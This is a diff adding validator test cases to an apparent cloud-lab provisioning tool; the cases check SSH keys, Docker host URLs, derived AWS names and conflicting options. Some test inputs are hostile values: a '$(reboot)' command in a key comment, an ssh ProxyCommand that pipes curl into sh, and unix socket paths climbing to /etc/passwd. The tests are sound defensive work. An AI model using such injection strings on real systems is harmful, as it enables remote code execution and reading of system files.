@@ -431,6 +431,123 @@ CASES = [
          lambda box: box.edit("environments/Pulumi.demo-s01.yaml", "  cloudlabs:seat: 1\n", "  cloudlabs:seat: 1\n  cloudlabs:seat: 2\n")),
     case("stack file too large", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml: \d+ bytes is too large",
          stack_text("config: {}\n#" + "x" * (1 << 20))),
+    # --- values: keys, URLs and derived names ------------------------------------------------------------------
+    case("ssh-access existing without keyName", f"validate demo-s01 --environments {E}",
+         r"Pulumi.demo-s01.yaml: cloudlabs:labs\[0\].options.key: \"existing\" is not allowed \(key: existing uses the stack's keyName",
+         stack_edit(cloudlabs__keyName=None, cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "existing"}}])),
+    case("cohort ssh-access existing without keyName", f"sync demo-tools --environments {E}",
+         r"demo-tools.yaml:\d+: labs\[0\].options.key: \"existing\" is not allowed \(key: existing uses the stack's keyName",
+         lambda box: (cohort_edit("keyName: vockey\n", "", "demo-tools")(box),
+                      cohort_edit("  - lab: ssh-access\n", "  - lab: ssh-access\n    options: {key: existing}\n", "demo-tools")(box))),
+    case("roster ssh-access existing without keyName", f"sync demo-tools --check --environments {E}",
+         r"demo-tools.yaml:\d+: roster\[2\].labs\[0\].options.key: \"existing\" is not allowed",
+         lambda box: (cohort_edit("keyName: vockey\n", "", "demo-tools")(box),
+                      cohort_edit("[{lab: containers, stage: starter}]", "[{lab: ssh-access, options: {key: existing}}]",
+                                  "demo-tools")(box))),
+    case("publicKey not a key blob", f"plan demo-s01 --environments {E}",
+         r"options.publicKey: \"ssh-rsa QUFBQUFB.*\" is not allowed \(publicKey is not an OpenSSH public key EC2 imports: the key "
+         r"data does not start with the key type ssh-rsa",
+         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported",
+                                                                       "publicKey": "ssh-rsa QUFBQUFBQUFBQUFBQUFBQUFBQUFB"}}])),
+    case("publicKey ed25519 prefix on an RSA key", f"validate demo-s01 --environments {E}",
+         r"options.publicKey: \"ssh-ed25519 AAAAB3.* is not allowed \(.*the line says ssh-ed25519 but its key data holds a ssh-rsa key",
+         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey": "ssh-ed25519 "
+                                      "AAAAB3NzaC1yc2EAAAADAQABAAABAQCtju46z+veUCmNwtRqZ5PgCXcwTEH/6rzZJ4lLjonw5DmHG/5Beo8HPtNtnp"
+                                      "3bz/Krjx5QzrZ1MDAhW1S+q6DxOGvd31heJBMKD+OlnHcaUfDDMhtmEqnPpuvwN7mGRaVar9T9BwnIrv+ZgpRqzAIu"
+                                      "3hwpgRf981j15q6fITnuVHvrzC3dDA47qRFewAluVLdxlfWz6i0LVR8GFYi0s8iAdSwdb+/F6jDkttw6MZbOQGKE1+"
+                                      "pwAIcP2psZHtymScni/2bTEWMuP6dPda0lPZtTXF1k88sqjBmjq4/hcNWLwpCttHP62Zd+gD61LReE8T11D0KjRBQmwODJnuGkAYgx me@laptop"}}])),
+    case("publicKey comment with a carriage return", f"check demo-s01 --environments {E}",
+         r"options.publicKey: .* is not allowed \(.*not one line of printable ASCII",
+         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey":
+                                      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3v4xb3Dm0s0fLZCwzvA6z6oWvZl9z9qQ5c2pGmYc1L me\r"}}])),
+    case("publicKey comment with a command", f"cost demo-s01 --environments {E}",
+         r"options.publicKey: .* is not allowed \(.*the comment has characters other than letters, digits, spaces and",
+         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey":
+                                      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3v4xb3Dm0s0fLZCwzvA6z6oWvZl9z9qQ5c2pGmYc1L $(reboot)"}}])),
+    case("publicKey an ECDSA key", f"sync demo-tools --environments {E}",
+         r"demo-tools.yaml:\d+: roster\[0\].labs\[0\].options.publicKey: .* \(.*EC2 imports RSA \(ssh-rsa\) and ED25519",
+         cohort_edit("  - id: t01\n", "  - id: t01\n    labs: [{lab: ssh-access, options: {key: imported, publicKey: "
+                     "'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTY='}}]\n", "demo-tools")),
+    case("ssh-access algorithm without a generated key", f"preview demo-s01 --environments {E}",
+         r"options.algorithm: \"ED25519\" is not allowed \(algorithm is only read with key: generated",
+         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "existing", "algorithm": "ED25519"}}])),
+    case("dockerHost an unclosed IPv6 bracket", f"check demo-s01 --environments {E}",
+         r"options.dockerHost: \"tcp://\[::1\" is not allowed \(not a URL \(Invalid IPv6 URL\)\); allowed: the Docker engine",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "tcp://[::1"}}])),
+    case("dockerHost an option smuggled into ssh", f"plan demo-s01 --environments {E}",
+         r"options.dockerHost: \"ssh://-oProxyCommand=.*\" is not allowed \(the host starts with - \(ssh would read it as an option\)",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
+                                                                       "dockerHost": "ssh://-oProxyCommand=curl${IFS}x|sh"}}])),
+    case("dockerHost port out of range", f"validate demo-s01 --environments {E}",
+         r"options.dockerHost: \"tcp://localhost:99999\" is not allowed \(the port is not a whole number from 1 to 65535\)",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "tcp://localhost:99999"}}])),
+    case("dockerHost unix path up the tree", f"cost demo-s01 --environments {E}",
+         r"options.dockerHost: \"unix://../../etc/passwd\" is not allowed \(unix:// takes a path, not a host",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "unix://../../etc/passwd"}}])),
+    case("dockerHost unix path with dot-dot", f"up demo-s01 --environments {E}",
+         r"options.dockerHost: \"unix:///var/run/../../etc/passwd\" is not allowed \(the socket path has . or .. segments",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
+                                                                       "dockerHost": "unix:///var/run/../../etc/passwd"}}])),
+    case("dockerHost with a password, masked", f"plan demo-s01 --environments {E}",
+         r"options.dockerHost: \"tcp://admin:\*\*\*@host:2376\" is not allowed \(a password in the address: it would be written",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
+                                                                       "dockerHost": "tcp://admin:s3cret@host:2376"}}])),
+    case("cohort dockerHost ssh password, masked", f"sync demo-tools --environments {E}",
+         r"roster\[2\].labs\[0\].options.dockerHost: \"ssh://me:\*\*\*@192.0.2.10\" is not allowed \(a password",
+         cohort_edit("[{lab: containers, stage: starter}]",
+                     "[{lab: containers, stage: starter, options: {variant: local, dockerHost: 'ssh://me:s3cret@192.0.2.10'}}]",
+                     "demo-tools")),
+    case("dockerHost without variant local", f"check demo-s01 --environments {E}",
+         r"options.dockerHost: \"unix:///var/run/docker.sock\" is not allowed \(dockerHost is only read with variant: local\)",
+         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"dockerHost": "unix:///var/run/docker.sock"}}])),
+    # --- values: names made from cohort and student ids ------------------------------------------------------
+    case("roster id makes a security group named sg-", f"sync demo --environments {E}",
+         r"demo.yaml:\d+: roster\[1\].id: \"sg\" is not allowed \(every lab makes the EC2 security group name "
+         r"sg-<group>-<26-character suffix>, against its rule: not starting with sg-",
+         cohort_edit("  - id: s02", "  - id: sg")),
+    case("roster id sg- prefix", f"sync demo --check --environments {E}",
+         r"demo.yaml:\d+: roster\[2\].id: \"sg-3\" is not allowed \(every lab makes the EC2 security group name sg-",
+         cohort_edit("  - id: s03", "  - id: sg-3")),
+    case("stack student makes a security group named sg-", f"plan demo-sg --environments {E}",
+         r"Pulumi.demo-sg.yaml: cloudlabs:student: \"sg\" is not allowed \(every lab makes the EC2 security group name sg-",
+         lambda box: box.write("environments/Pulumi.demo-sg.yaml", (box.env / "Pulumi.demo-s01.yaml").read_text()
+                               .replace("cloudlabs:student: s01", "cloudlabs:student: sg"))),
+    case("cohort id makes a bucket with a reserved prefix", f"sync sthree --environments {E}",
+         r"sthree.yaml:1: cohort: \"sthree\" is not allowed \(lab object-storage makes the S3 bucket name "
+         r"sthree-<student>-<purpose>-<account id>, against its rule: not starting with xn--, sthree-, amzn-s3-demo-",
+         lambda box: box.write("environments/sthree.yaml", "cohort: sthree\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
+                               "expires: 2026-12-19\nlabs: [object-storage]\nroster: [s01]\n")),
+    case("roster labs make a bucket with the cohort's reserved prefix", f"sync sthree --environments {E}",
+         r"sthree.yaml:1: cohort: \"sthree\" is not allowed \(lab beanstalk makes the S3 bucket name sthree-<student>-",
+         lambda box: box.write("environments/sthree.yaml", "cohort: sthree\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
+                               "expires: 2026-12-19\nlabs: [vpc-nat]\nroster:\n  - s01\n  - {id: s02, labs: [beanstalk]}\n")),
+    case("roster id completes a reserved bucket prefix", f"sync amzn --environments {E}",
+         r"amzn.yaml:\d+: roster\[0\].id: \"s3-demo\" is not allowed \(lab beanstalk makes the S3 bucket name "
+         r"amzn-s3-demo-<purpose>-<account id>",
+         lambda box: box.write("environments/amzn.yaml", "cohort: amzn\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
+                               "expires: 2026-12-19\nlabs: [beanstalk]\nroster: [s3-demo]\n")),
+    case("stack cohort makes a bucket with a reserved prefix", f"validate sthree-s01 --environments {E}",
+         r"Pulumi.sthree-s01.yaml: cloudlabs:cohort: \"sthree\" is not allowed \(lab object-storage makes the S3 bucket name "
+         r"sthree-<student>-<purpose>-<account id>",
+         lambda box: box.write("environments/Pulumi.sthree-s01.yaml", (box.env / "Pulumi.demo-s01.yaml").read_text()
+                               .replace("cloudlabs:cohort: demo", "cloudlabs:cohort: sthree")
+                               .replace("  - lab: ec2-webserver\n    options:\n      count: 3\n      os: alternate\n",
+                                        "  - lab: object-storage\n"))),
+    # --- values: settings that contradict each other ----------------------------------------------------------
+    case("dual-stack natGateway without coursework", f"plan demo-s01 --environments {E}",
+         r"options.natGateway: false is not allowed \(natGateway is only read with coursework: true",
+         stack_edit(cloudlabs__labs=[{"lab": "dual-stack", "options": {"natGateway": False}}])),
+    case("roster dual-stack natGateway without coursework", f"sync demo-net --environments {E}",
+         r"demo-net.yaml:\d+: roster\[3\].labs\[0\].options.natGateway: false is not allowed \(natGateway is only read with",
+         cohort_edit("[{lab: dual-stack, stage: starter}]", "[{lab: dual-stack, stage: starter, options: {natGateway: false}}]",
+                     "demo-net")),
+    case("cohort keyFile without keyName", f"sync demo --environments {E}",
+         r"demo.yaml:\d+: keyFile: \"labsuser.pem\" is not allowed \(keyFile names the private key of keyName's key pair, and no "
+         r"keyName is set",
+         cohort_edit("keyName: vockey ", "keyFile: labsuser.pem ")),
+    case("stack keyFile without keyName", f"up demo-s01 --environments {E}",
+         r"Pulumi.demo-s01.yaml: cloudlabs:keyFile: \"labsuser.pem\" is not allowed \(keyFile names the private key",
+         stack_edit(cloudlabs__keyName=None, cloudlabs__keyFile="labsuser.pem")),
     # --- guardrail profiles ------------------------------------------------------------------------------------
     case("profile session hours as text", f"plan demo-s01 --environments {E}",
          r"cloudlabs:profile: 'learner-lab' cannot be used: .*learner-lab.yaml:\d+: sessionHours: \"4\" is not allowed",
